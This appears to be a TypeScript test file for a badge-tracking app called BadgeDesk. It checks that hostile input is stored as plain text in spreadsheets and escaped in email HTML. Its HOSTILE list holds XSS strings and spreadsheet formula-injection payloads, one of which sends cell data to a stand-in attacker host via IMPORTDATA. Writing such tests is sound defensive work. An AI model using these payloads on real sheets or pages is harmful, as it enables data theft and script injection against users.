/**
 * Issue #14: nothing a user types can run as a formula or as HTML. Hostile names, sites and
 * instructors come in through the instructor form and by typing; the report is built and the
 * notices go out. Every cell BadgeDesk wrote holds the typed text as text (no formula, no number,
 * date or yes/no made of it), and every notice's HTML carries it escaped, never raw.
 */
import { outboxOf, spreadsheetOf } from "../../local/runtime";
import { escapeHtml } from "../../src/domain/merge";
import { type World, world } from "./harness";
import { AGENCY_CREDENTIAL, submit, workbookWithForm } from "./intake-world";

const HOSTILE = [
  '<script>alert("badge")</script>',
  "<img src=x onerror=alert(1)>",
  '=HYPERLINK("http://evil.example","Claim here")',
  '=IMPORTDATA("http://evil.example/?"&A1)',
  "+Ana",
  "-Ana",
  "@Ana",
  "'Ana",
  "O'Brien & <Sons>",
  'Ana "the Great"',
  "TRUE",
  "007 Bond",
];

let w: World;
beforeAll(async () => {
  w = await world({ start: new Date("2026-11-10T15:00:00Z") });
  const formId = workbookWithForm(w);
  HOSTILE.forEach((text, i) => {
    submit(w, formId, { first: text, last: "Ruiz", email: `form${i}@student.example.org`, earned: "2026-11-02" });
  });
  w.type(
    "Entries",
    HOSTILE.map((text, i) => ({
      "Student First Name": "Ana",
      "Student Last Name": text,
      "Student Email": `typed${i}@student.example.org`,
      Credential: AGENCY_CREDENTIAL,
      "Date Earned": "2026-11-02",
      Site: text,
      Program: text,
      "Instructor Name": text,
    })),
  );
  w.run("reconcileEntries");
  w.runtime.clock.setAtLeast(new Date("2026-12-01T14:00:00Z").getTime());
  w.run("buildMonthlyReport");
  w.run("sendNotices", "2026-11");
}, 60_000);
afterAll(() => w.close());

const REPORT = "Badges 2026-11";

it("decides every hostile name Badge (a name is never refused for its characters) and sends each notice", () => {
  const rows = w.rows(REPORT, "Entry ID");
  expect(rows).toHaveLength(HOSTILE.length * 2);
  expect(rows.map((r) => [r.Student, r.Decision, r["Notice Status"]])).toEqual(
    rows.map((r) => [r.Student, "Badge", "Sent"]),
  );
  expect(outboxOf(w.runtime).messages).toHaveLength(HOSTILE.length * 2);
});

it("stores no formula in any sheet BadgeDesk writes", () => {
  const book = spreadsheetOf(w.runtime);
  for (const sheet of book.sheetNames()) {
    const formulas = book
      .formulas(sheet)
      .flat()
      .filter((f) => f !== "");
    expect({ sheet, formulas }).toEqual({ sheet, formulas: [] });
  }
});

it("keeps each hostile text as exactly that text in Entries and in the report", () => {
  const entries = w.rows("Entries");
  const report = w.rows(REPORT, "Entry ID");
  for (const text of HOSTILE) {
    const fromForm = entries.find((r) => r["Student First Name"] === text);
    const typed = entries.find((r) => r["Student Last Name"] === text);
    expect({ text, form: fromForm?.["Student First Name"], typed: typed?.Site }).toEqual({
      text,
      form: text,
      typed: text,
    });
    expect(report.map((r) => r.Student)).toEqual(expect.arrayContaining([`${text} Ruiz`, `Ana ${text}`]));
  }
  for (const row of report) {
    for (const header of ["Student", "Student Email", "Credential", "Site", "Reason"])
      expect(typeof row[header]).toBe("string");
  }
});

it("escapes every hostile text in the notices' HTML and never puts it there raw", () => {
  const messages = outboxOf(w.runtime).messages;
  for (const message of messages) {
    expect(message.html).not.toMatch(/<script|<img/i);
    expect(message.subject).not.toMatch(/[\r\n]/);
  }
  for (const [i, text] of HOSTILE.entries()) {
    // The form's student is greeted by the hostile first name; the typed one's site names it.
    for (const to of [`form${i}@student.example.org`, `typed${i}@student.example.org`]) {
      const notice = messages.find((m) => m.to[0] === to);
      if (!notice) throw new Error(`no notice to ${to} (${text})`);
      expect(notice.html).toContain(escapeHtml(text));
      if (/[<>&"']/.test(text)) expect(notice.html).not.toContain(text);
    }
  }
});
